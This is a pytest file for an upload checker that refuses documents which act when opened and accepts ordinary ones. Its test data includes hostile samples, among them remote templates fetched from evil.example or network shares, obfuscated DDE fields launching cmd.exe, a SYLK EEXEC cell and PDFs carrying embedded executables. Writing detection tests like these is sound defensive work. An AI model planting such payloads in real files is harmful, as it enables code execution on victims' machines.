"""Documents that do something when they are opened are refused, and ordinary ones are not."""

from __future__ import annotations

import io
import time
import zipfile
import zlib

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment

from tests.security.test_hostile_files import judged, packed, pdf
from tests.storage.test_inspection import JPEG, PROGRAM, WORD, compound, letter, office, workbook, zipped

BRINGS = "есть вложение или ссылка, которая открывается сама"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STUB = b"This program cannot be run in DOS mode"


def related(kind: str, target: str, *, to: str = "document", mode: str = "External") -> dict[str, bytes]:
    """A part of relationships as Word writes it."""
    words = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )
    return {f"word/_rels/{to}.xml.rels": words.encode()}


def document(body: str) -> bytes:
    words = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{body}</w:document>'
    return office(**{"word/document.xml": words.encode()})


def field(*pieces: str) -> str:
    """A field of Word, its words in runs of their own."""
    words = "".join(f"<w:r><w:instrText xml:space='preserve'>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{mark}"/></w:r>' for mark in ("begin", "end"))
    return f"<w:p>{begin}{words}{end}</w:p>"


def book_with(**parts: bytes) -> bytes:
    """A real workbook with more parts in it."""
    made = io.BytesIO(workbook())
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for path, content in parts.items():
            archive.writestr(path, content)
    return made.getvalue()


def living_book() -> bytes:
    """A workbook with all that people put into one: a chart, links, a formula from another book, a note."""
    book, made = openpyxl.Workbook(), io.BytesIO()
    sheet = book.active
    for row in range(1, 5):
        sheet.append([row, row * 2])
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=4))
    sheet.add_chart(chart, "E2")
    sheet["A6"].hyperlink = "https://nalog.gov.ru/"
    sheet["A7"].hyperlink = r"\\server\общая\акт.docx"
    sheet["A8"] = "=SUM(B1:B4)"
    sheet["A9"] = "DDE и cmd упомянуты в тексте"
    sheet["A6"].comment = Comment("Проверить", "Анна")
    book.save(made)
    return made.getvalue()


def with_path(target: str) -> bytes:
    """A workbook that takes figures from another one."""
    name = "xl/externalLinks/_rels/externalLink1.xml.rels"
    part = related("externalLinkPath", target)["word/_rels/document.xml.rels"]
    link = b'<externalLink xmlns="x"><externalBook r:id="rId1" xmlns:r="y"/></externalLink>'
    return book_with(**{name: part, "xl/externalLinks/externalLink1.xml": link})


PACKAGE = compound("\x01CompObj", "\x01Ole10Native")

REFUSED = {
    "rtf, a program": (
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}}", "a.rtf", BRINGS),
    "rtf, an equation": (b"{\\rtf1{\\object\\objupdate{\\*\\objclass Equation.3}}}", "a.doc", BRINGS),
    "rtf, as short as readers take it": (b"{\\rt{\\object{\\*\\objdata 0105}}}", "a.doc", BRINGS),
    "rtf after a blank": (b"\n {\\rtf1{\\object{\\*\\objdata 0105}}}", "a.doc", "команды"),
    "rtf, a template on the web": (b"{\\rtf1{\\*\\template https://evil.example/t.dotm}}", "a.rtf", BRINGS),
    "rtf, a template in numbers": (
        b"{\\rtf1{\\*\\template \\u104?\\u116?\\u116?\\u112?\\u58?//evil.example/t}}", "a.rtf", BRINGS),
    "rtf, a template on a share": (b"{\\rtf1{\\*\\template \\\\\\\\evil\\\\t.dotm}}", "a.rtf", BRINGS),
    "rtf, dde": (b"{\\rtf1{\\field{\\*\\fldinst {\\b DDE}AUTO c:\\\\cmd.exe}}}", "a.rtf", BRINGS),
    "docx, a template on the web": (
        office(**related("attachedTemplate", "https://evil.example/t.dotm", to="settings")), "a.docx",
        BRINGS),
    "docx, a template spelt in numbers": (
        office(**related("attachedTemplate", "&#104;ttps://evil.example/t.dotm")), "a.docx", BRINGS),
    "docx, a template on a share": (
        office(**related("attachedTemplate", "file:///\\\\evil\\s\\t.dotm")), "a.docx", BRINGS),
    "docx, mode spelt otherwise": (
        office(**related("frame", "//evil.example/a.html", mode="&#69;xternal")), "a.docx", BRINGS),
    "docx, an object on the web": (
        office(**related("oleObject", "https://evil.example/x.html!")), "a.docx", BRINGS),
    "docx, a picture on a share": (office(**related("image", "file://evil/s/a.png")), "a.docx", BRINGS),
    "docx, rels in utf-16": (
        office(**{
            path: part.decode().replace("UTF-8", "UTF-16").encode("utf-16")
            for path, part in related("attachedTemplate", "http://evil.example/t.dotm").items()
        }), "a.docx", BRINGS),
    "docx, a packed file": (office(**{"word/embeddings/oleObject1.bin": PACKAGE}), "a.docx", BRINGS),
    "docx, a packed file called a picture": (office(**{"word/media/image1.png": PACKAGE}), "a.docx", BRINGS),
    "docx, an equation": (
        office(**{"word/embeddings/a.bin": compound("Equation Native")}), "a.docx", BRINGS),
    "docx, a program in an object": (
        office(**{"word/embeddings/a.bin": compound("CONTENTS", tail=STUB)}), "a.docx", "программа"),
    "docx, a program": (office(**{"word/embeddings/a.bin": PROGRAM}), "a.docx", "программа"),
    "docx, macros in a sheet": (
        office(**{"word/embeddings/a.xlsx": office("spreadsheetml.sheet", **{"xl/vbaProject.bin": b"x"})}),
        "a.docx", BRINGS),
    "docx, an archive": (office(**{"word/embeddings/a.bin": zipped({"a.js": b"x"})}), "a.docx", BRINGS),
    "docx, dde": (document('<w:p><w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/></w:p>'), "a.docx", BRINGS),
    "docx, dde in runs": (document(field(" D", "DEA", "UTO c:\\\\cmd.exe /k calc")), "a.docx", BRINGS),
    "docx, dde with a remark": (document(field("D<!-- -->DE c:\\cmd.exe")), "a.docx", BRINGS),
    "docx, dde in numbers": (document(field("&#68;DE c:\\cmd.exe")), "a.docx", BRINGS),
    "docx, dde after a field": (document(field("PAGE") + field("dde c:\\cmd.exe")), "a.docx", BRINGS),
    "xlsx, dde": (
        book_with(**{"xl/externalLinks/externalLink1.xml":
            b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
        "a.xlsx", BRINGS),
    "pdf, a file within": (
        pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>")
        + b"3 0 obj << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >> endobj", "a.pdf", BRINGS),
    "pdf, a file within, in numbers": (
        pdf(b"") + b"4 0 obj << /Type /E#6DbeddedFile >> stream", "a.pdf", BRINGS),
    "pdf, a file within, packed": (packed(b"3 0 << /F (a.exe) /EF%x\n4 0 R >>"), "a.pdf", BRINGS),
    "pdf, to a share when opened": (
        pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\s) /D [0] >>"), "a.pdf", BRINGS),
    "pdf, into a file within": (pdf(b"") + b"3 0 obj << /S /GoToE >>", "a.pdf", BRINGS),
    "a table that starts programs": (b'ID;PWXL;N;E\nC;X1;Y1;K0;EEXEC("calc")\n', "a.csv", "команды"),
    **{
        f".{extension}": (b"WEB\n1\nhttp://evil.example/\n", f"a.{extension}", "не сможем открыть")
        for extension in ("iqy", "oqy", "dqy", "slk", "rdp", "diagcab", "one", "vcs")
    },
    "in a zip": (zipped({"a.iqy": b"WEB\n1\n"}), "a.zip", "не сможем открыть"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "name", "why"), REFUSED.values(), ids=REFUSED)
def test_what_acts_when_it_is_opened_is_refused(tmp_path, content, name, why):
    verdict = judged(tmp_path, content, name)
    assert not verdict.accepted
    said = str(verdict.reason.msgid) + "".join(
        str(getattr(each, "msgid", "")) for each in verdict.reason.params.values()
    )
    assert why in said


ORDINARY = {
    "rtf by Word": (
        (b"{\\rtf1\\ansi{\\*\\template C:\\\\Users\\\\\\'c0\\'ed\\'ed\\'e0\\\\Normal.dotm}"
         b'{\\field{\\*\\fldinst HYPERLINK "https://nalog.gov.ru/dde"}{\\fldrslt x}}{\\pict 89504e47}}'),
        "a.rtf",
    ),
    "docx with links": (office(**related("hyperlink", "https://nalog.gov.ru/")), "a.docx"),
    "docx with a letter's address": (office(**related("hyperlink", "mailto:a@example.ru")), "a.docx"),
    "docx by a template of one's own": (
        office(**related("attachedTemplate", "file:///C:\\Шаблоны\\договор.dotx", to="settings")), "a.docx"),
    "docx by a template, a bare name": (
        office(**related("attachedTemplate", "договор.dotx", to="settings")), "a.docx"),
    "docx with a picture of the web": (
        office(**related("image", "https://example.ru/logo.png")), "a.docx"),
    "docx with pictures": (
        office(**{"word/media/image1.jpeg": JPEG, "word/media/i.emf": b"\x01\0"}), "a.docx"),
    "docx with a chart": (office(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()}), "a.docx"),
    "docx with a sheet of before 2007": (
        office(**{"word/embeddings/oleObject1.bin": compound("Workbook", "\x01CompObj")}), "a.docx"),
    "docx with fields": (
        document(field("TOC \\o") + field("PAGE") + field('HYPERLINK "https://x.ru/DDE"') + field("DDEX")),
        "a.docx"),
    "xlsx that lives": (living_book(), "a.xlsx"),
    "xlsx that takes from a file": (with_path("file:///\\\\server\\share\\Книга1.xlsx"), "a.xlsx"),
    "xlsx that takes from OneDrive": (with_path("https://d.docs.live.net/1/Книга1.xlsx"), "a.xlsx"),
    "xlsx with settings of a printer": (
        book_with(**{"xl/printerSettings/printerSettings1.bin": b"H\0P\0" + bytes(200)}), "a.xlsx"),
    "pdf that opens at its page": (pdf(b"/OpenAction [3 0 R /FitH null] /AA << >>"), "a.pdf"),
    "pdf with a link to a site": (
        pdf(b"") + b"3 0 obj << /S /URI /URI (https://nalog.gov.ru/) >> endobj", "a.pdf"),
    "pdf with a link to its neighbour": (pdf(b"") + b"3 0 obj << /S /GoToR /F (b.pdf) >>", "a.pdf"),
    "pdf with a picture": (
        pdf(b"") + b"3 0 obj << /Length 99 >> stream\n" + zlib.compress(b"/EF /AA") + b"/EF\x01/AA\x02/EFG",
        "a.pdf"),
    "a letter": (letter(b"text"), "a.eml"),
    "a letter of Outlook with a picture": (compound("__properties_version1.0", "\x01Ole10Native"), "a.msg"),
    "an appointment": (b"BEGIN:VCALENDAR\nEND:VCALENDAR\n", "a.ics"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "name"), ORDINARY.values(), ids=ORDINARY)
def test_ordinary_documents_are_taken(tmp_path, content, name):
    assert judged(tmp_path, content, name).accepted


def repeated(piece: bytes, size_bytes: int) -> bytes:
    return piece * (size_bytes // len(piece))


SLOW = {
    "fields that begin": lambda: document(repeated(b"<w:x w:fldCharType='begin'/>", 9_000_000).decode()),
    "words of fields": lambda: document(repeated(b"<w:instrText>D</w:instrText>", 9_000_000).decode()),
    "open tags": lambda: document(repeated(b'<w:instrText "', 9_000_000).decode()),
    "remarks": lambda: document(repeated(b"<!--", 9_000_000).decode()),
    "relationships": lambda: office(**{"a.rels": b"<a>" + repeated(b"<b/>", 3_900_000) + b"</a>"}),
    "templates": lambda: b"{\\rtf1" + repeated(b"\\template ", 20_000_000),
    "fields of rtf": lambda: b"{\\rtf1" + repeated(b"\\fldinst\\'41", 20_000_000),
    "files in a pdf": lambda: pdf(b"") + repeated(b"/EF" + b" " * 20, 20_000_000),
}


@pytest.mark.parametrize("build", SLOW.values(), ids=SLOW)
def test_nothing_that_acts_is_searched_for_long(tmp_path, build):
    content = build()
    began = time.process_time()
    judged(tmp_path, content, "a.docx")
    assert time.process_time() - began < 3


def test_a_document_of_more_text_than_anybody_reads_is_refused(tmp_path):
    content = document("<w:p/>" * 3_000_000)
    assert not judged(tmp_path, content, "a.docx").accepted


def test_a_document_of_a_thousand_pages_is_taken(tmp_path):
    paragraph = "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % ("Слово и дело. " * 10)
    verdict = judged(tmp_path, document(paragraph * 30_000), "a.docx")
    assert (verdict.accepted, verdict.media_type) == (True, WORD)
